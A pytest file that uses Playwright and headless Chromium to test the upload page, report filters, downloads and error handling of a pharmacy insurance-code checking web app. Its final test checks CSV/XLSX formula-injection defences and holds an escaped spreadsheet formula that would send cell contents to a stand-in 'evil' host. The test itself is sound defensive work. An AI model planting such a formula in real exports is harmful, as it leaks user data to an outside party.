"""The upload page and the report in headless chromium (Playwright, Debian's /usr/bin/chromium).

Run by `make test`, whose `browser` target installs chromium; they skip only when it could not.
"""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest

import mapper
from mapper.writers.html import render_report
from tests.web.browser import chromium_missing, launched_browser, running_app, settings_for
from tests.web.support import AS_OF, FORMULA_CSV, PHARMACY, SAMPLES

LIMIT = 100 * 1024  # small, so a test can go over it

pytestmark = pytest.mark.skipif(chromium_missing() is not None, reason=str(chromium_missing()))


@pytest.fixture(scope="module")
def base_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root = tmp_path_factory.mktemp("web-jobs")
    with running_app(settings_for(root, max_upload_bytes=LIMIT)) as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with launched_browser() as context:
        yield context


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    tab = browser.new_page()
    tab.set_default_timeout(20_000)
    yield tab
    tab.close()


def submit(page: Any, base_url: str, path: Path) -> None:
    page.goto(base_url + "/")
    page.set_input_files("#file", str(path))
    page.fill("#as_of", AS_OF.isoformat())
    page.click("#submit")


def test_upload_sample_see_summary_filter_and_download(
    page: Any, base_url: str, tmp_path: Path
) -> None:
    submit(page, base_url, PHARMACY)
    page.wait_for_url("**/jobs/*")
    expected = mapper.check(PHARMACY, as_of=AS_OF)
    s = expected.summary
    assert page.text_content("#rows-read") == str(s.rows_read)
    assert page.text_content("#coded-rate") == f"{100 * s.coded_rate:.1f}%"
    assert page.text_content("#status-error") == str(s.by_status["error"])
    assert page.text_content("#status-warning") == str(s.by_status["warning"])
    assert page.text_content("#catalog-name") == PHARMACY.name
    assert page.text_content("#f-count") == str(expected.findings.height)

    page.select_option("#f-rule", "COD001")
    cod001 = expected.findings.filter(pl.col("rule") == "COD001").height
    assert page.text_content("#f-count") == str(cod001)
    visible = page.locator("#findings tbody tr:visible")
    assert visible.count() == cod001
    assert set(visible.evaluate_all("rows => rows.map(r => r.dataset.rule)")) == {"COD001"}

    with page.expect_download() as info:
        page.click("#dl-findings-csv")
    saved = tmp_path / "findings.csv"
    info.value.save_as(saved)
    assert info.value.suggested_filename == "pharmacy_catalog_gbk-findings.csv"
    found = pl.read_csv(saved, infer_schema=False)
    assert found.height == expected.findings.height
    assert found.get_column("rule").to_list() == expected.findings.get_column("rule").to_list()
    assert found.get_column("row").to_list() == [str(r) for r in expected.findings["row"]]


def test_upload_with_a_time_on_a_cut_over_day(page: Any, base_url: str) -> None:
    """哈尔滨: “2021年10月22日20时起，暂停定点医疗机构、定点零售药店办理医保刷卡结算业务”: the
    same day before and after 20:00, chosen on the form."""
    for clock, phase, countdown in (
        ("19:59", "before_suspension", "real-time settlement stops today at 20:00"),
        ("20:00", "settlement_suspended", "real-time settlement suspended until 2021-10-31 08:00"),
    ):
        page.goto(base_url + "/")
        page.set_input_files("#file", str(PHARMACY))
        page.select_option("#policy", "harbin-2021")
        page.fill("#as_of", "2021-10-22")
        page.fill("#as_of_time", clock)
        page.click("#submit")
        page.wait_for_url("**/jobs/*")
        assert page.get_attribute("#cutover", "data-phase") == phase
        assert countdown in page.inner_text("#countdown")


def test_standalone_report_filters_in_the_browser(page: Any, tmp_path: Path) -> None:
    result = mapper.check(PHARMACY, as_of=AS_OF)
    report = tmp_path / "report.html"
    report.write_text(render_report(result), encoding="utf-8")
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(report.as_uri())
    assert requests == [report.as_uri()]  # nothing else fetched
    page.select_option("#f-severity", "warning")
    warnings = result.findings.filter(pl.col("severity") == "warning").height
    assert page.text_content("#f-count") == str(warnings)
    page.select_option("#f-severity", "")
    lines = result.findings.join(result.items.select("row", "line_type"), on="row")
    rarest = lines.get_column("line_type").value_counts(sort=True).row(-1)  # (line type, count)
    page.select_option("#f-line", rarest[0])
    assert page.text_content("#f-count") == str(rarest[1])
    page.select_option("#f-line", "")
    name = result.items.filter(pl.col("row") == result.findings["row"][0])["name"][0]
    page.fill("#f-search", name)
    shown = int(page.text_content("#f-count"))
    assert shown >= 1
    names = page.locator("#findings tbody tr:visible td:nth-child(3)").all_text_contents()
    assert names and all(name in n for n in names)


@pytest.mark.parametrize(
    ("path", "message"),
    [
        (SAMPLES / "empty.csv", "文件为空"),
        (SAMPLES / "broken_no_code_column.csv", "找不到医保编码列"),
    ],
)
def test_bad_files_show_a_clear_message(page: Any, base_url: str, path: Path, message: str) -> None:
    submit(page, base_url, path)
    page.wait_for_selector("#error:not(:empty)")
    assert message in page.text_content("#error")


def test_file_over_the_limit_is_refused(page: Any, base_url: str, tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    big.write_bytes(PHARMACY.read_bytes() * (LIMIT // PHARMACY.stat().st_size + 2))
    submit(page, base_url, big)
    page.wait_for_selector("#error:not(:empty)")
    text = page.text_content("#error")
    assert "文件太大" in text and "100 KB" in text and "413" in text


def test_formula_cells_are_safe_in_downloads(page: Any, base_url: str, tmp_path: Path) -> None:
    upload = tmp_path / "formula.csv"
    upload.write_bytes(FORMULA_CSV)
    submit(page, base_url, upload)
    page.wait_for_url("**/jobs/*")
    assert page.locator("text==HYPERLINK").count() >= 1  # shown as text on the page
    for key in ("catalog-csv", "catalog-xlsx"):
        with page.expect_download() as info:
            page.click(f"#dl-{key}")
        saved = tmp_path / info.value.suggested_filename
        info.value.save_as(saved)
        if saved.suffix == ".csv":
            frame = pl.read_csv(saved, infer_schema=False)
        else:
            frame = pl.read_excel(io.BytesIO(saved.read_bytes()), infer_schema_length=0)
        cells = [v for col in frame.iter_columns() for v in col.drop_nulls()] + frame.columns
        assert "'=1+1" in cells and '\'=HYPERLINK("http://evil/"&A1)' in cells
        assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")]
